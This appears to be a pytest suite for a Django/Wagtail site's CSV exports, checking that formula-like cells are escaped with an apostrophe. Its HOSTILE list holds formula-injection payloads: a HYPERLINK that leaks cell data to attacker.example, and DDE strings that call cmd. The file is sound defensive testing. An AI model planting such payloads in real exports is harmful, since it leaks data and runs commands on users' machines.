"""Every CSV the site exports opens in a spreadsheet as data: a cell that
people typed and that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return is written as text (a leading apostrophe), never as a formula; numbers
stay numbers (website/csvexport.py)."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from program.factories import ApplicationFactory, ProgramPageFactory, RoundPageFactory
from program.models import SpeedMentoringEventPage, SpeedMentoringParticipant
from voting import actions
from voting.factories import ElectionIndexPageFactory, ElectionPageFactory
from voting.models import Ballot
from website import csvexport
from website.factories import StandardPageFactory, UserFactory

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def is_safe(cell):
    return not cell.startswith(csvexport.FORMULA_STARTS) or cell.startswith("'")


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_is_written_as_text(text):
    assert csvexport.safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-3, -0.5, Decimal("-1.25"), "-3", "+2", "-0.5", "1e-3", "-.5"]
)
def test_numbers_and_numeric_text_stay_numbers(value):
    assert csvexport.safe_cell(value) == value


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Ana O'Neil", "Ana O'Neil"),
        ("", ""),
        (None, None),
        (True, True),
        (datetime.date(2018, 4, 20), "2018-04-20"),
        ("-", "'-"),
        ("- a list item", "'- a list item"),
    ],
)
def test_other_values(value, written):
    assert csvexport.safe_cell(value) == written


def test_the_writer_and_the_stream_write_the_same_safe_csv():
    rows = [["name", "score"], ["=1+1", -3], ["Ana", 2]]
    buffer = io.StringIO()
    csvexport.writer(buffer).writerows(rows)
    streamed = "".join(csvexport.lines(rows))
    assert buffer.getvalue() == streamed
    assert list(csv.reader(io.StringIO(streamed))) == [
        ["name", "score"],
        ["'=1+1", "-3"],
        ["Ana", "2"],
    ]


def test_a_streaming_download_names_its_file():
    response = csvexport.streaming_response([["a"], ["@b"]], "export.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="export.csv"'
    assert b"".join(response.streaming_content).decode() == "a\r\n'@b\r\n"


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_all_safe(text, expected):
    found = cells(text)
    assert all(is_safe(cell) for cell in found), found
    for value in expected:
        assert "'" + value in found


@pytest.mark.django_db
def test_the_matching_export_writes_applicants_names_as_text(client, home):
    round_page = RoundPageFactory(parent=ProgramPageFactory(parent=home))
    for name in HOSTILE:
        ApplicationFactory(round=round_page, name=name)
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    response = client.get(f"/admin/program/matching/{round_page.pk}/export.csv")
    assert response.status_code == 200
    assert_all_safe(response.content.decode(), HOSTILE)


@pytest.mark.django_db
def test_the_ballots_export_writes_option_titles_as_text(client, home):
    now = timezone.now()
    titles = ["=1+1", "@SUM(A1)", "Open access"]
    election = ElectionPageFactory(
        parent=ElectionIndexPageFactory(parent=home),
        options=titles,
        voting_opens_at=now - datetime.timedelta(days=7),
        voting_closes_at=now - datetime.timedelta(hours=1),
    )
    keys = [option.key for option in election.option_list]
    Ballot.objects.create(election_key=election.translation_key, choices=keys[:2])
    actions.publish_results(election)
    response = client.get(election.url + "ballots/csv/")
    assert response.status_code == 200
    assert_all_safe(response.getvalue().decode(), titles[:2])


@pytest.mark.django_db
def test_the_timetable_export_writes_names_as_text(client, home):
    people = [
        SpeedMentoringParticipant(name="-Mentor+cmd", role="mentor", sort_order=0),
        SpeedMentoringParticipant(name="Mentor 2", role="mentor", sort_order=1),
        SpeedMentoringParticipant(name="=Mentee()", role="mentee", sort_order=2),
        SpeedMentoringParticipant(name="Mentee 2", role="mentee", sort_order=3),
    ]
    program = ProgramPageFactory(parent=home)
    event = program.add_child(
        instance=SpeedMentoringEventPage(
            title="Speed mentoring",
            slug="speed-mentoring",
            starts_at=timezone.now(),
            time_zone="Asia/Hong_Kong",
            place="Central Library",
            rotations=2,
            minutes=10,
            changeover_minutes=2,
            table_capacity=2,
            participants=people,
        )
    )
    event.save_revision().publish()
    response = client.get(event.url + "timetable/csv/")
    assert response.status_code == 200
    assert_all_safe(response.content.decode(), ["-Mentor+cmd", "=Mentee()"])


@pytest.mark.django_db
def test_wagtails_own_exports_write_page_titles_as_text(client, home):
    page = StandardPageFactory(parent=home, title="=HYPERLINK(A1)")
    page.save_revision().publish()
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    response = client.get(
        reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"}
    )
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert_all_safe(text, ["=HYPERLINK(A1)"])
